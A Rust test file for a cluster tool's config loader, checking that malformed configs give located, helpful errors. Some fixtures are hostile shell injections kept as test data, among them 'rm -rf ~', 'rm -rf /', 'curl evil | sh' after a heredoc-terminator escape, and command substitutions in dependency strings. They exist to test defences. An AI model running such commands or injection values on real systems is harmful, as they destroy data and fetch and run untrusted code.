//! Every kind of bad config gives one located, actionable error (snapshot-tested), and never a panic.

use std::path::Path;

use daft::config::Config;

const GOOD: &str = r#"
[setup]
name = "demo"
provider = "aws"
"#;

/// Render the error a config text gives; panics if it loads.
fn error_for(text: &str, base: &Path) -> String {
    match Config::parse("bad.toml", text, base) {
        Ok(_) => panic!("expected an error for:\n{text}"),
        Err(e) => {
            // Every error names the file, line and column.
            let (line, col) = e.line_col().expect("error has a location");
            assert!(line >= 1 && col >= 1);
            assert!(e.help.is_some(), "every error says what to do: {}", e.title);
            e.render()
        }
    }
}

macro_rules! bad_config {
    ($name:ident, $text:expr) => {
        #[test]
        fn $name() {
            let dir = tempfile::tempdir().unwrap();
            let rendered = error_for($text, dir.path());
            let mut settings = insta::Settings::clone_current();
            settings.add_filter(&regex_escape(&dir.path().display().to_string()), "[TMP]");
            settings.bind(|| insta::assert_snapshot!(rendered));
        }
    };
}

fn regex_escape(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '/' {
                c.to_string()
            } else {
                format!("\\{c}")
            }
        })
        .collect()
}

#[test]
fn good_config_loads() {
    let c = Config::parse("good.toml", GOOD, Path::new(".")).unwrap();
    assert_eq!(c.setup.name, "demo");
    let daft::config::ProviderSetup::Aws(aws) = &c.setup.provider else {
        panic!("not an AWS setup: {:?}", c.setup.provider)
    };
    assert_eq!(aws.region, "us-west-2");
    assert_eq!(c.setup.ssh_user, "ec2-user");
    assert_eq!(c.setup.number_of_workers, 2);
    assert_eq!(aws.instance_type, "m7g.medium");
    assert!(aws.image_id.is_none());
    assert!(c.setup.dependencies.is_empty());
}

bad_config!(
    toml_syntax_error,
    "[setup]\nname = \"demo\nprovider = \"aws\"\n"
);
bad_config!(duplicate_key, "[setup]\nname = \"a\"\nname = \"b\"\n");
bad_config!(
    unknown_key_with_suggestion,
    "[setup]\nname = \"demo\"\nnumer_of_workers = 3\n"
);
bad_config!(
    unknown_key_without_suggestion,
    "[setup]\nname = \"demo\"\ncolour = \"blue\"\n"
);
bad_config!(
    unknown_table,
    "[setup]\nname = \"demo\"\n[runn]\nsetup_commands = []\n"
);
bad_config!(
    unknown_key_in_run,
    "[setup]\nname = \"demo\"\n[run]\nsetup_command = [\"ls\"]\n"
);
// Values that reach a shell on the nodes: a line break could end a quoted block and run the
// rest as commands on every node.
bad_config!(
    dependency_with_a_newline,
    "[setup]\nname = \"demo\"\ndependencies = [\"numpy\", \"pandas\\nrm -rf ~\"]\n"
);
bad_config!(
    dependency_with_a_heredoc_terminator,
    "[setup]\nname = \"demo\"\ndependencies = [\"numpy\\nDAFT_BOOTSTRAP_EOF\\ncurl evil | sh\"]\n"
);
bad_config!(
    setup_command_with_a_control_character,
    "[setup]\nname = \"demo\"\n[run]\nsetup_commands = [\"echo \\u001b[2J\"]\n"
);
bad_config!(
    ssh_user_with_shell_characters,
    "[setup]\nname = \"demo\"\nssh_user = \"ec2-user;id\"\n"
);
bad_config!(
    bad_command_timeout,
    "[setup]\nname = \"demo\"\ncommand_timeout = \"forever\"\n"
);
bad_config!(
    max_parallel_zero,
    "[setup]\nname = \"demo\"\nmax_parallel = 0\n"
);

/// Shell metacharacters in a requirement (valid PEP 508 markers use `;`) reach pip literally:
/// the rendered bootstrap hands them over as one quoted value, never run by a shell.
#[test]
fn dependency_with_shell_metacharacters_is_passed_literally() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    let dep = format!(
        "numpy; python_version >= \"3.9\" $(touch {m}) `touch {m}` ' \\ && touch {m}",
        m = marker.display()
    );
    let text = format!(
        "[setup]\nname = \"demo\"\nprovider = \"local\"\ndependencies = [{}]\n",
        toml_edit::Value::from(dep.as_str())
    );
    let cfg = Config::parse("c.toml", &text, dir.path()).unwrap();
    assert_eq!(cfg.setup.dependencies, vec![dep.clone()]);
    let params = daft::bootstrap::NodeParams {
        cluster: "demo".into(),
        requirements: daft::bootstrap::requirements(&cfg),
        ..Default::default()
    };
    // Evaluate the script's settings the way a node's shell does, and print the value back.
    let script = daft::bootstrap::render(&params);
    let prelude: String = script
        .lines()
        .take_while(|l| !l.starts_with("# daft node bootstrap"))
        .collect::<Vec<_>>()
        .join("\n");
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("{prelude}\nprintf '%s' \"$DAFT_REQUIREMENTS\""))
        .output()
        .unwrap();
    assert!(out.status.success());
    let got = String::from_utf8(out.stdout).unwrap();
    assert_eq!(got.lines().last(), Some(dep.as_str()));
    assert!(!marker.exists(), "a dependency ran as shell code");
    // The whole command daft sends is one quoted script: nothing in it runs on its own.
    let cmd = daft::bootstrap::command(&params, &["status"]);
    assert!(
        cmd.text.starts_with("sh -c '") && !cmd.text.contains("DAFT_BOOTSTRAP_EOF"),
        "not one quoted script: {}",
        &cmd.text[..200]
    );
}

bad_config!(missing_setup_table, "[run]\nsetup_commands = []\n");
bad_config!(missing_name, "[setup]\nprovider = \"aws\"\n");
bad_config!(empty_name, "[setup]\nname = \"  \"\n");
bad_config!(invalid_name, "[setup]\nname = \"my cluster!\"\n");
bad_config!(placeholder_name, "[setup]\nname = \"$NAME - required\"\n");
bad_config!(placeholder_dependency, "[setup]\nname = \"demo\"\ndependencies = [\"$DEPENDENCIES - optional, defaults to an empty list\"]\n");
bad_config!(
    workers_wrong_type,
    "[setup]\nname = \"demo\"\nnumber_of_workers = \"two\"\n"
);
bad_config!(
    workers_negative,
    "[setup]\nname = \"demo\"\nnumber_of_workers = -1\n"
);
bad_config!(
    workers_too_many,
    "[setup]\nname = \"demo\"\nnumber_of_workers = 1000000\n"
);
bad_config!(
    unknown_provider,
    "[setup]\nname = \"demo\"\nprovider = \"gcp\"\n"
);
bad_config!(
    bad_region,
    "[setup]\nname = \"demo\"\nregion = \"oregon\"\n"
);
bad_config!(
    bad_instance_type,
    "[setup]\nname = \"demo\"\ninstance_type = \"large\"\n"
);
bad_config!(
    bad_image_id,
    "[setup]\nname = \"demo\"\nimage_id = \"ubuntu-22.04\"\n"
);
bad_config!(
    bad_python_version,
    "[setup]\nname = \"demo\"\npython_version = \"three\"\n"
);
bad_config!(
    dependencies_not_strings,
    "[setup]\nname = \"demo\"\ndependencies = [\"numpy\", 3]\n"
);
bad_config!(
    dependency_is_pip_option,
    "[setup]\nname = \"demo\"\ndependencies = [\"--index-url=x\"]\n"
);
bad_config!(
    setup_commands_not_list,
    "[setup]\nname = \"demo\"\n[run]\nsetup_commands = \"echo hi\"\n"
);
bad_config!(
    missing_key_file,
    "[setup]\nname = \"demo\"\nssh_private_key = \"keys/nope\"\n"
);
bad_config!(
    ssh_without_hosts,
    "[setup]\nname = \"demo\"\nprovider = \"ssh\"\n"
);
bad_config!(
    ssh_section_with_aws,
    "[setup]\nname = \"demo\"\nprovider = \"aws\"\n[setup.ssh]\nhead = \"10.0.0.1\"\n"
);
bad_config!(local_section_with_ssh, "[setup]\nname = \"demo\"\nprovider = \"ssh\"\n[setup.ssh]\nhead = \"h\"\n[setup.local]\nray_port = 6380\n");
bad_config!(
    ssh_missing_head,
    "[setup]\nname = \"demo\"\nprovider = \"ssh\"\n[setup.ssh]\nworkers = [\"a\"]\n"
);
bad_config!(
    ssh_bad_port,
    "[setup]\nname = \"demo\"\nprovider = \"ssh\"\n[setup.ssh]\nhead = \"10.0.0.1:99999\"\n"
);
bad_config!(ssh_duplicate_host, "[setup]\nname = \"demo\"\nprovider = \"ssh\"\n[setup.ssh]\nhead = \"a\"\nworkers = [\"b\", \"a\"]\n");
bad_config!(
    local_not_loopback,
    "[setup]\nname = \"demo\"\nprovider = \"local\"\n[setup.local]\naddress = \"10.1.2.3\"\n"
);
bad_config!(
    local_other_loopback,
    "[setup]\nname = \"demo\"\nprovider = \"local\"\n[setup.local]\naddress = \"127.0.0.2\"\n"
);
bad_config!(
    local_bad_port,
    "[setup]\nname = \"demo\"\nprovider = \"local\"\n[setup.local]\nray_port = 80\n"
);
bad_config!(
    aws_cidr_world,
    "[setup]\nname = \"demo\"\n[setup.aws]\nssh_ingress_cidrs = [\"0.0.0.0/0\"]\n"
);
bad_config!(
    aws_cidr_invalid,
    "[setup]\nname = \"demo\"\n[setup.aws]\nssh_ingress_cidrs = [\"my-office\"]\n"
);
bad_config!(setup_is_not_table, "setup = \"demo\"\n");

#[cfg(unix)]
#[test]
fn world_readable_key_file() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("id");
    std::fs::write(&key, "x").unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let rendered = error_for(
        "[setup]\nname = \"demo\"\nssh_private_key = \"id\"\n",
        dir.path(),
    );
    let mut settings = insta::Settings::clone_current();
    settings.add_filter(&regex_escape(&dir.path().display().to_string()), "[TMP]");
    settings.bind(|| insta::assert_snapshot!(rendered));
}

#[test]
fn tilde_is_expanded_in_key_path() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("id");
    std::fs::write(&key, "x").unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    // shellexpand expands ~ from HOME.
    std::env::set_var("HOME", dir.path());
    let c = Config::parse(
        "k.toml",
        "[setup]\nname = \"demo\"\nssh_private_key = \"~/id\"\n",
        Path::new("/"),
    )
    .unwrap();
    assert_eq!(c.setup.ssh_private_key.as_deref(), Some(key.as_path()));
}

/// Arbitrary bytes never panic the loader.
#[test]
fn garbage_never_panics() {
    use proptest::prelude::*;
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 512,
        ..ProptestConfig::default()
    });
    runner
        .run(&"(\\PC|\n|\\[|\\]|=|\"){0,200}", |s| {
            let _ = Config::parse("fuzz.toml", &s, Path::new("."));
            Ok(())
        })
        .unwrap();
    // Mutations of a valid file.
    let base = "[setup]\nname = \"demo\"\nprovider = \"ssh\"\n[setup.ssh]\nhead = \"a:22\"\nworkers = [\"b\"]\n[run]\nsetup_commands = [\"x\"]\n";
    for i in 0..base.len() {
        for repl in ["", "\"", "[", "0", "-", "\n", "é"] {
            let mut s = base.to_string();
            if s.is_char_boundary(i) && s.is_char_boundary(i + 1) {
                s.replace_range(i..i + 1, repl);
                if let Err(e) = Config::parse("mut.toml", &s, Path::new(".")) {
                    let _ = e.render();
                }
            }
        }
    }
}
bad_config!(
    provider_typo,
    "[setup]\nname = \"demo\"\nprovider = \"locl\"\n"
);

bad_config!(
    slurm_value_with_a_space,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\npartition = \"gpu --wrap=x\"\n"
);
bad_config!(
    slurm_unknown_node_access,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\nnode_access = \"rsh\"\n"
);
bad_config!(
    slurm_node_ssh_port_without_ssh_access,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\nnode_ssh_port = 2222\n"
);
bad_config!(
    slurm_extra_flag_not_a_flag,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\nextra_flags = [\"--exclusive\", \"rm -rf /\"]\n"
);
bad_config!(
    run_sync_missing_dir,
    "[setup]\nname = \"demo\"\nprovider = \"local\"\n[run]\nsync = [\"no-such-dir-here\"]\n"
);
bad_config!(
    run_env_bad_name,
    "[setup]\nname = \"demo\"\nprovider = \"local\"\n[run]\nenv = { \"1BAD\" = \"x\" }\n"
);

bad_config!(
    slurm_unknown_preset,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\npreset = \"gpux\"\n[slurm.presets.gpu]\npartition = \"gpu\"\n"
);
bad_config!(
    slurm_preset_unknown_key,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\npreset = \"gpu\"\n[slurm.presets.gpu]\npartitoin = \"gpu\"\n"
);

#[test]
fn a_slurm_preset_fills_what_setup_slurm_leaves_out() {
    let c = Config::parse(
        "t.toml",
        "[setup]\nname = \"demo\"\nprovider = \"slurm\"\n[setup.slurm]\npreset = \"gpu\"\ntime = \"0:10:00\"\n\
         [slurm.presets.gpu]\npartition = \"gpu\"\ntime = \"4:00:00\"\ngpus = \"a100:2\"\nextra_flags = [\"--exclusive\"]\n",
        Path::new("."),
    )
    .unwrap_or_else(|e| panic!("{}", e.render()));
    let daft::config::ProviderSetup::Slurm(slurm) = &c.setup.provider else {
        panic!("not a Slurm setup: {:?}", c.setup.provider)
    };
    let opts: Vec<(String, String)> = slurm.options.clone();
    assert!(
        opts.contains(&("--partition".into(), "gpu".into())),
        "{opts:?}"
    );
    assert!(
        opts.contains(&("--time".into(), "0:10:00".into())),
        "{opts:?}"
    );
    assert!(
        opts.contains(&("--gpus-per-node".into(), "a100:2".into())),
        "{opts:?}"
    );
    assert_eq!(slurm.extra_flags, ["--exclusive"]);
}

bad_config!(
    kubernetes_bad_quantity,
    "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\n[setup.kubernetes]\nworker_memory = \"16 GB\"\n"
);
bad_config!(
    kubernetes_bad_toleration,
    "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\n[setup.kubernetes]\ntolerations = [\"nvidia.com/gpu:NoSchedule\", \"gpu:Sometimes\"]\n"
);
bad_config!(
    kubernetes_name_not_dns,
    "[setup]\nname = \"My_Cluster\"\nprovider = \"kubernetes\"\n"
);
bad_config!(
    kubernetes_bad_namespace,
    "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\n[setup.kubernetes]\nnamespace = \"Team A\"\n"
);
bad_config!(
    kubernetes_bad_node_selector,
    "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\n[setup.kubernetes]\nnode_selector = { \"gpu type\" = \"a100\" }\n"
);
bad_config!(
    kubernetes_section_with_aws,
    "[setup]\nname = \"demo\"\nprovider = \"aws\"\n[setup.kubernetes]\nnamespace = \"ml\"\n"
);
bad_config!(
    kubernetes_unknown_key,
    "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\n[setup.kubernetes]\nworker_gpu = 1\n"
);

#[test]
fn a_kubernetes_config_gets_its_defaults() {
    let c = Config::parse(
        "t.toml",
        "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\npython_version = \"3.12\"\n[setup.kubernetes]\nworker_gpus = 1\ntolerations = [\"dedicated=ml\"]\n",
        Path::new("."),
    )
    .unwrap_or_else(|e| panic!("{}", e.render()));
    let daft::config::ProviderSetup::Kubernetes(k) = &c.setup.provider else {
        panic!("not a Kubernetes setup: {:?}", c.setup.provider)
    };
    assert_eq!(k.image, "rayproject/ray:2.60.0-py312-gpu");
    assert_eq!((k.head_cpu.as_str(), k.head_memory.as_str()), ("2", "4Gi"));
    assert_eq!(k.ready_timeout, std::time::Duration::from_secs(600));
    assert_eq!(k.tolerations[0].value.as_deref(), Some("ml"));
    assert_eq!(k.tolerations[0].effect, None);
    assert_eq!(c.setup.number_of_workers, 2);
}

/// `ssh_user` left out: EC2's `ec2-user` on AWS, your own user name on your own hosts and Slurm.
#[test]
fn ssh_user_defaults_to_ec2_user_on_aws_and_to_the_local_user_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let load = |text: &str| {
        let p = dir.path().join("c.toml");
        std::fs::write(&p, text).unwrap();
        daft::config::Config::load(&p).unwrap()
    };
    let aws = load("[setup]\nname = \"demo\"\nprovider = \"aws\"\n");
    assert_eq!(aws.setup.ssh_user, "ec2-user");
    let me = std::env::var("USER")
        .or_else(|_| std::env::var("LOGNAME"))
        .unwrap_or_else(|_| "root".into());
    let slurm = load("[setup]\nname = \"demo\"\nprovider = \"slurm\"\n");
    assert_eq!(slurm.setup.ssh_user, me);
    assert!(
        matches!(&slurm.setup.provider, daft::config::ProviderSetup::Slurm(s) if s.node_access == daft::config::NodeAccess::Srun),
        "{:?}",
        slurm.setup.provider
    );
    let ssh =
        load("[setup]\nname = \"demo\"\nprovider = \"ssh\"\n[setup.ssh]\nhead = \"10.0.0.1\"\n");
    assert_eq!(ssh.setup.ssh_user, me);
    let given = load("[setup]\nname = \"demo\"\nprovider = \"ssh\"\nssh_user = \"ubuntu\"\n[setup.ssh]\nhead = \"10.0.0.1\"\n");
    assert_eq!(given.setup.ssh_user, "ubuntu");
}

// ---- workers: a fixed number, or a range Ray's autoscaler moves within ----

const K8S: &str = "[setup]\nname = \"demo\"\nprovider = \"kubernetes\"\n";

bad_config!(
    both_forms_of_the_worker_count,
    &format!("{K8S}number_of_workers = 2\nmax_workers = 4\n")
);
bad_config!(
    min_workers_without_max_workers,
    &format!("{K8S}min_workers = 2\n")
);
bad_config!(
    min_workers_above_max_workers,
    &format!("{K8S}min_workers = 5\nmax_workers = 2\n")
);
bad_config!(
    max_workers_out_of_range,
    &format!("{K8S}max_workers = -1\n")
);
bad_config!(
    idle_timeout_not_a_duration,
    &format!("{K8S}max_workers = 4\nidle_timeout = \"soon\"\n")
);
bad_config!(
    upscaling_speed_zero,
    &format!("{K8S}max_workers = 4\nupscaling_speed = 0\n")
);
bad_config!(
    upscaling_speed_not_a_number,
    &format!("{K8S}max_workers = 4\nupscaling_speed = \"fast\"\n")
);
bad_config!(
    idle_timeout_with_a_fixed_worker_count,
    &format!("{K8S}number_of_workers = 2\nidle_timeout = \"5m\"\n")
);
bad_config!(
    slurm_allocation_cannot_autoscale,
    "[setup]\nname = \"demo\"\nprovider = \"slurm\"\nmin_workers = 1\nmax_workers = 4\n"
);
bad_config!(
    aws_autoscaling_not_available_yet,
    "[setup]\nname = \"demo\"\nprovider = \"aws\"\nmax_workers = 4\n"
);

#[test]
fn a_worker_range_is_autoscaled_and_equal_bounds_are_a_fixed_count() {
    let load = |text: &str| {
        Config::parse("t.toml", text, Path::new(".")).unwrap_or_else(|e| panic!("{}", e.render()))
    };
    let c = load(&format!("{K8S}max_workers = 8\n"));
    let s = &c.setup.scaling;
    assert_eq!((s.min_workers, s.max_workers), (0, 8));
    assert!(s.autoscaled());
    assert_eq!(s.idle_timeout, std::time::Duration::from_secs(300));
    assert!(!s.upscaling_speed_given);
    // `up` starts the minimum; the autoscaler adds the rest on demand.
    assert_eq!(c.setup.number_of_workers, 0);

    let c = load(&format!(
        "{K8S}min_workers = 1\nmax_workers = 3\nidle_timeout = \"90s\"\nupscaling_speed = 2\n"
    ));
    let s = &c.setup.scaling;
    assert_eq!(
        (s.min_workers, s.max_workers, s.upscaling_speed),
        (1, 3, 2.0)
    );
    assert_eq!(s.idle_timeout, std::time::Duration::from_secs(90));
    assert_eq!(c.setup.number_of_workers, 1);

    // Equal bounds are a fixed size, on any back-end (Slurm included).
    let c =
        load("[setup]\nname = \"demo\"\nprovider = \"slurm\"\nmin_workers = 2\nmax_workers = 2\n");
    assert!(!c.setup.scaling.autoscaled());
    assert_eq!(c.setup.number_of_workers, 2);
    let c = load("[setup]\nname = \"demo\"\nnumber_of_workers = 3\n");
    assert_eq!(c.setup.scaling, daft::config::Scaling::fixed(3));
}

bad_config!(
    iam_instance_profile_not_a_name,
    "[setup]\nname = \"demo\"\n\n[setup.aws]\niam_instance_profile = \"my profile\"\n"
);

bad_config!(
    root_volume_too_small,
    "[setup]\nname = \"demo\"\n\n[setup.aws]\nroot_volume_gb = 2\n"
);

bad_config!(
    autostop_on_aws_without_an_instance_profile,
    "[setup]\nname = \"demo\"\nprovider = \"aws\"\nautostop = \"30m\"\n"
);
bad_config!(
    autostop_not_a_duration,
    "[setup]\nname = \"demo\"\nprovider = \"local\"\nautostop = \"5s\"\n"
);

const GROUP: &str = "[setup]\nname = \"demo\"\nprovider = \"aws\"\n[[setup.aws.worker_groups]]\n";

bad_config!(
    worker_group_without_instance_types,
    &format!("{GROUP}name = \"gpu\"\nworkers = 1\n")
);
bad_config!(
    worker_group_with_a_bad_name,
    &format!("{GROUP}name = \"GPU nodes\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\n")
);
bad_config!(
    worker_group_with_a_type_listed_twice,
    &format!(
        "{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\", \"g5.xlarge\"]\nworkers = 1\n"
    )
);
bad_config!(
    worker_group_without_workers,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\n")
);
bad_config!(
    worker_group_naming_rays_own_resource,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\nresources = {{ GPU = 1 }}\n")
);
bad_config!(
    worker_group_with_an_unknown_key,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\ninstance_type = \"g5.xlarge\"\n")
);
bad_config!(
    worker_groups_beside_number_of_workers,
    "[setup]\nname = \"demo\"\nprovider = \"aws\"\nnumber_of_workers = 2\n[[setup.aws.worker_groups]]\nname = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\n"
);
bad_config!(
    max_hourly_cost_not_a_price,
    "[setup]\nname = \"demo\"\n[setup.aws]\nmax_hourly_cost = -2\n"
);
bad_config!(
    max_hourly_cost_as_text,
    "[setup]\nname = \"demo\"\n[setup.aws]\nmax_hourly_cost = \"$5\"\n"
);
bad_config!(
    worker_group_with_an_unknown_market,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\nmarket = \"reserved\"\n")
);
bad_config!(
    spot_fallback_on_an_on_demand_group,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\nspot_fallback = false\n")
);
bad_config!(
    spot_fallback_not_a_boolean,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\nmarket = \"spot\"\nspot_fallback = \"no\"\n")
);
bad_config!(
    aws_zone_outside_the_region,
    "[setup]\nname = \"demo\"\nregion = \"us-west-2\"\n[setup.aws]\nzones = [\"us-west-2a\", \"eu-west-1a\"]\n"
);
bad_config!(
    aws_zone_listed_twice,
    "[setup]\nname = \"demo\"\nregion = \"us-west-2\"\n[setup.aws]\nzones = [\"us-west-2a\", \"us-west-2a\"]\n"
);
bad_config!(
    aws_subnet_id_malformed,
    "[setup]\nname = \"demo\"\n[setup.aws]\nsubnet_ids = [\"my-subnet\"]\n"
);
bad_config!(
    aws_security_group_id_malformed,
    "[setup]\nname = \"demo\"\n[setup.aws]\nsecurity_group_ids = [\"sg-XYZ\"]\n"
);
bad_config!(
    aws_zones_beside_subnet_ids,
    "[setup]\nname = \"demo\"\nregion = \"us-west-2\"\n[setup.aws]\nzones = [\"us-west-2a\"]\nsubnet_ids = [\"subnet-0123456789abcdef0\"]\n"
);
bad_config!(
    two_worker_groups_of_one_name,
    &format!("{GROUP}name = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\nworkers = 1\n[[setup.aws.worker_groups]]\nname = \"gpu\"\ninstance_types = [\"g6.xlarge\"]\nworkers = 1\n")
);

#[test]
fn worker_groups_load_with_their_defaults_from_setup_aws() {
    let text = "[setup]\nname = \"demo\"\nprovider = \"aws\"\ninstance_type = \"m7i.large\"\n\
                [setup.aws]\niam_instance_profile = \"ray-nodes\"\nroot_volume_gb = 50\n\
                [[setup.aws.worker_groups]]\nname = \"gpu\"\ninstance_types = [\"g5.xlarge\", \"g6.xlarge\"]\n\
                workers = 2\nroot_volume_gb = 200\nresources = { a10g = 1 }\n";
    let c = Config::parse("g.toml", text, Path::new(".")).unwrap();
    let daft::config::ProviderSetup::Aws(aws) = &c.setup.provider else {
        panic!("not an AWS setup")
    };
    assert_eq!(aws.groups.len(), 1);
    let g = &aws.groups[0];
    assert_eq!(g.instance_types, ["g5.xlarge", "g6.xlarge"]);
    assert_eq!((g.workers, g.root_volume_gb), (2, Some(200)));
    assert_eq!(g.iam_instance_profile.as_deref(), Some("ray-nodes"));
    assert_eq!(g.resources.get("a10g"), Some(&1.0));
    assert_eq!(aws.workers(), 2);
    // Without groups: one unnamed group like the head, of number_of_workers.
    let c = Config::parse("g.toml", GOOD, Path::new(".")).unwrap();
    let daft::config::ProviderSetup::Aws(aws) = &c.setup.provider else {
        panic!("not an AWS setup")
    };
    assert_eq!(aws.groups.len(), 1);
    assert_eq!(aws.groups[0].name, "");
    assert_eq!(
        aws.groups[0].instance_types,
        std::slice::from_ref(&aws.instance_type)
    );
}

#[test]
fn spot_groups_and_the_hourly_limit_load() {
    let text = "[setup]\nname = \"demo\"\nprovider = \"aws\"\ninstance_type = \"m7i.large\"\n\
                [setup.aws]\nmax_hourly_cost = 3\n\
                [[setup.aws.worker_groups]]\nname = \"gpu\"\ninstance_types = [\"g5.xlarge\"]\n\
                workers = 2\nmarket = \"spot\"\n\
                [[setup.aws.worker_groups]]\nname = \"strict\"\ninstance_types = [\"g5.xlarge\"]\n\
                workers = 1\nmarket = \"spot\"\nspot_fallback = false\n\
                [[setup.aws.worker_groups]]\nname = \"cpu\"\ninstance_types = [\"m7i.large\"]\nworkers = 1\n";
    let c = Config::parse("g.toml", text, Path::new(".")).unwrap();
    let daft::config::ProviderSetup::Aws(aws) = &c.setup.provider else {
        panic!("not an AWS setup")
    };
    use daft::cost::Market;
    assert_eq!(aws.max_hourly_cost, Some(3.0));
    let got: Vec<(Market, bool)> = aws
        .groups
        .iter()
        .map(|g| (g.market, g.spot_fallback))
        .collect();
    assert_eq!(
        got,
        [
            (Market::Spot, true),
            (Market::Spot, false),
            (Market::OnDemand, true)
        ]
    );
}
